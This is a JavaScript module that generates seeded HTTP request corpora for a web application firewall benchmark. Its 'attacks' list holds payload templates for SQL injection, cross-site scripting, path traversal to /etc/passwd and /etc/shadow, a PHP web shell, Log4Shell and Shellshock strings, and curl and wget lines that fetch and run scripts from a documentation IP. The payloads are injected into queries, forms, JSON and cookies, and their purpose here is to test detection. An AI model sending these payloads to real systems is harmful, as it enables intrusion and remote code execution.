// Requests for the WAF benchmark. Every string that varies is drawn anew for each request from a seeded generator, so
// no engine gains from remembering earlier requests.

const hosts = ['shop.example.com', 'www.example.org', 'api.example.net']
const nouns =
  'account agenda anchor basket beacon blanket bottle branch bridge bucket cabin camera candle carpet castle ceiling chapter cherry circle cottage curtain diary engine fabric feather ferry garden ginger hammer harbour island jacket kettle ladder lantern lemon library marble meadow mirror mountain napkin needle orchard paper pencil pillow planet pocket postcard ribbon river saddle season shelter silver sofa spoon station summer teapot ticket towel tunnel valley velvet village violin wagon window winter'.split(
    ' ',
  )

/** Deterministic generator of numbers in [0, 1): xorshift32. */
export function generator(seed) {
  let state = (seed * 2_654_435_761) >>> 0 || 1
  return () => {
    state ^= state << 13
    state >>>= 0
    state ^= state >>> 17
    state ^= state << 5
    state >>>= 0
    return state / 4_294_967_296
  }
}

/** Sources of unique words and numbers for one corpus. */
function vocabulary(seed) {
  const random = generator(seed)
  const below = (limit) => Math.floor(random() * limit)
  const pick = (list) => list[below(list.length)]
  const letters = (count) => Array.from({ length: count }, () => String.fromCharCode(97 + below(26))).join('')
  // A noun with two random syllables: prose to a rule, and never the same string twice.
  const word = () =>
    `${pick(nouns)}${pick(['a', 'e', 'i', 'o'])}${pick(['b', 'd', 'g', 'k', 'l', 'm', 'n', 'r', 't'])}${pick(['a', 'e', 'o'])}`
  const words = (count) => Array.from({ length: count }, word).join(' ')
  const hex = (count) => Array.from({ length: count }, () => '0123456789abcdef'[below(16)]).join('')
  return { below, pick, letters, word, words, hex }
}

function browserHeaders(v) {
  const major = 100 + v.below(60)
  const agents = [
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${major}.0.${v.below(9999)}.${v.below(99)} Safari/537.36`,
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_${v.below(9)}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${v.below(9)} Safari/605.1.${v.below(99)}`,
    `Mozilla/5.0 (X11; Linux x86_64; rv:${major}.0) Gecko/20100101 Firefox/${major}.${v.below(99)}`,
  ]
  return [
    ['Host', v.pick(hosts)],
    ['User-Agent', v.pick(agents)],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
    ['Accept-Language', `en-GB,en;q=0.${1 + v.below(8)},de;q=0.${1 + v.below(8)}`],
    ['Accept-Encoding', 'gzip, deflate, br'],
    ['Referer', `https://shop.example.com/${v.word()}/${v.word()}`],
    [
      'Cookie',
      `sid=${v.hex(32)}; theme=${v.word()}; cart=${v.hex(16)}; visit=${v.below(1e9)}.${v.below(1e9)}`,
    ],
    ['Connection', 'keep-alive'],
    ['Upgrade-Insecure-Requests', '1'],
    ['Sec-Fetch-Dest', 'document'],
    ['Sec-Fetch-Mode', 'navigate'],
    ['Sec-Fetch-Site', 'same-origin'],
  ]
}

function form(fields) {
  return Object.entries(fields)
    .map(([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(String(value))}`)
    .join('&')
}

function withBody(headers, type, body) {
  return [...headers, ['Content-Type', type], ['Content-Length', String(Buffer.byteLength(body))]]
}

function get(v) {
  return {
    method: 'GET',
    uri: `/${v.word()}/${v.word()}-${v.below(100_000)}.html`,
    headers: browserHeaders(v),
    body: '',
  }
}

function query(v) {
  const fields = {
    q: v.words(3),
    category: v.word(),
    page: v.below(500),
    per_page: 20 + v.below(80),
    sort: v.word(),
    dir: v.pick(['asc', 'desc']),
    min: v.below(1000),
    max: 1000 + v.below(9000),
    colour: v.word(),
    brand: v.words(2),
    session: v.hex(24),
    utm_source: v.word(),
  }
  return { method: 'GET', uri: `/search?${form(fields)}`, headers: browserHeaders(v), body: '' }
}

function formPost(v) {
  let body = form({
    first_name: v.word(),
    last_name: v.word(),
    email: `${v.word()}@example.org`,
    phone: `+44${v.below(1e9)}`,
    address: `${v.below(300)} ${v.words(2)} street`,
    city: v.word(),
    postcode: v.hex(6).toUpperCase(),
    country: 'GB',
    csrf: v.hex(40),
    newsletter: 'yes',
    comment: v.word(),
  })
  while (body.length < 1024) body += `+${v.word()}`
  return {
    method: 'POST',
    uri: '/account/register',
    headers: withBody(browserHeaders(v), 'application/x-www-form-urlencoded', body),
    body,
  }
}

function jsonPost(size) {
  return (v) => {
    const items = []
    let length = 60
    while (length < size) {
      const item = {
        id: v.below(1e6),
        sku: v.hex(10),
        name: v.words(3),
        description: v.words(9),
        price: v.below(10_000) / 100,
        tags: [v.word(), v.word(), v.word()],
        inStock: v.below(2) === 1,
        dims: { w: v.below(100), h: v.below(100) },
      }
      items.push(item)
      length += JSON.stringify(item).length + 1
    }
    const body = JSON.stringify({ client: 'web', version: 3, cursor: v.hex(16), items })
    return {
      method: 'POST',
      uri: '/api/v1/orders',
      headers: withBody(browserHeaders(v), 'application/json', body),
      body,
    }
  }
}

function upload(v) {
  const boundary = `----FormBoundary${v.hex(16)}`
  const bytes = Buffer.alloc(15_500)
  for (let at = 0; at < bytes.length; at++) bytes[at] = v.below(256)
  const fields = ['title', 'album', 'note']
    .map((name) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v.words(5)}\r\n`)
    .join('')
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="${v.word()}${v.below(999)}.png"\r\nContent-Type: image/png\r\n\r\n`
  const body = Buffer.concat([Buffer.from(fields + head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)])
  return {
    method: 'POST',
    uri: '/photos',
    headers: withBody(browserHeaders(v), `multipart/form-data; boundary=${boundary}`, body),
    body,
  }
}

// Attack shapes with a hole for a unique word or number.
const attacks = [
  (v) => `${v.below(999)}' OR '${v.word()}'='${v.word()}`,
  (v) => `${v.below(999)} UNION SELECT ${v.word()},${v.word()} FROM ${v.word()}--`,
  (v) => `'; DROP TABLE ${v.word()};--`,
  (v) => `${v.below(999)} AND SLEEP(${v.below(60)})`,
  (v) => `${v.below(99)}' AND extractvalue(1,concat(0x7e,(select ${v.word()})))-- -`,
  (v) => `<script>alert("${v.word()}")</script>`,
  (v) => `"><img src=${v.word()} onerror=alert(${v.below(999)})>`,
  (v) => `<svg/onload=${v.word()}(1)>`,
  (v) => `javascript:alert('${v.word()}')`,
  (v) => `../../../../etc/passwd?${v.word()}`,
  (v) => `/etc/shadow%00${v.word()}.png`,
  (v) => `php://filter/convert.base64-encode/resource=${v.word()}.php`,
  (v) => `; cat /etc/passwd ${v.word()}`,
  (v) => `\`wget http://198.51.100.7/${v.word()}.sh -O /tmp/${v.word()}\``,
  (v) => `$(curl http://198.51.100.7/${v.word()}|sh)`,
  (v) => `() { :;}; /bin/bash -c '${v.word()}'`,
  (v) => `\${jndi:ldap://198.51.100.7/${v.word()}}`,
  (v) => `<?php system($_GET['${v.word()}']); ?>`,
  (v) => `require('child_process').exec('${v.word()}')`,
  (v) => `http://198.51.100.${v.below(255)}/${v.word()}.txt?`,
  (v) => `${v.word()}\r\nSet-Cookie: ${v.word()}=1`,
]

function attack(v, number) {
  const payload = attacks[number % attacks.length](v)
  const place = Math.floor(number / attacks.length) % 4
  if (place === 0) {
    return {
      method: 'GET',
      uri: `/item?id=${encodeURIComponent(payload)}&page=${v.below(99)}`,
      headers: browserHeaders(v),
      body: '',
    }
  }
  if (place === 1) {
    const body = form({ name: v.words(2), value: payload, submit: 'go' })
    return {
      method: 'POST',
      uri: '/comment',
      headers: withBody(browserHeaders(v), 'application/x-www-form-urlencoded', body),
      body,
    }
  }
  if (place === 2) {
    const body = JSON.stringify({ title: v.words(3), body: { text: payload }, n: v.below(100) })
    return {
      method: 'POST',
      uri: '/api/comment',
      headers: withBody(browserHeaders(v), 'application/json', body),
      body,
    }
  }
  const headers = browserHeaders(v).filter(([name]) => name !== 'Cookie')
  headers.push(['Cookie', `pref=${encodeURIComponent(payload)}`])
  return { method: 'GET', uri: `/home?x=${encodeURIComponent(v.words(2))}`, headers, body: '' }
}

/** Classes of requests: how many of each, and what ratio to the peer is asked for. */
export const classes = [
  { name: 'GET small', count: 500, make: get, must: 10, goal: 20, stretch: 35 },
  { name: 'GET 12 parameters', count: 400, make: query, must: 10, goal: 20, stretch: 35 },
  { name: 'form 1 KB', count: 200, make: formPost, must: 10, goal: 25, stretch: 40 },
  { name: 'JSON 4 KB', count: 40, make: jsonPost(4096), must: 15, goal: 50, stretch: 100 },
  { name: 'JSON 64 KB', count: 4, make: jsonPost(65_536), must: 20, goal: 100, stretch: 300 },
  { name: 'multipart 16 KB', count: 240, make: upload, must: 15, goal: 25, stretch: 40 },
  { name: 'attacks', count: 252, make: attack, must: 6, goal: 10, stretch: 15 },
]

/** All requests of one seed, in order of the classes. */
export function buildCorpus(seed, scale = 1) {
  const v = vocabulary(seed)
  return classes.flatMap(({ name, count, make }) =>
    Array.from({ length: Math.max(2, Math.round(count * scale)) }, (_, number) => ({
      class: name,
      ...make(v, number),
    })),
  )
}

/** The requests as length-prefixed records, read by the peer's harness and by ours alike. */
export function encodeCorpus(requests) {
  const parts = []
  const count = (value) => {
    const bytes = Buffer.alloc(4)
    bytes.writeUInt32LE(value)
    return bytes
  }
  const text = (value) => {
    const bytes = Buffer.isBuffer(value) ? value : Buffer.from(value, 'utf8')
    parts.push(count(bytes.length), bytes)
  }
  parts.push(count(requests.length))
  for (const request of requests) {
    for (const value of [request.class, request.method, request.uri, String(request.headers.length)])
      text(value)
    for (const [name, value] of request.headers) {
      text(name)
      text(value)
    }
    text(request.body)
  }
  return Buffer.concat(parts)
}

/** Reads what {@link encodeCorpus} wrote, request by request; every call makes new strings. */
export function* readCorpus(bytes) {
  let at = 0
  const count = () => {
    const value = bytes.readUInt32LE(at)
    at += 4
    return value
  }
  const raw = () => {
    const length = count()
    at += length
    return bytes.subarray(at - length, at)
  }
  const text = () => raw().toString('latin1')
  for (let left = count(); left > 0; left--) {
    const request = { class: text(), method: text(), target: text(), headers: [], body: null }
    const size = Number(text())
    for (let header = 0; header < size; header++) request.headers.push(text(), text())
    request.body = new Uint8Array(raw())
    yield request
  }
}

/** All requests of {@link readCorpus}. */
export function decodeCorpus(bytes) {
  return [...readCorpus(bytes)]
}
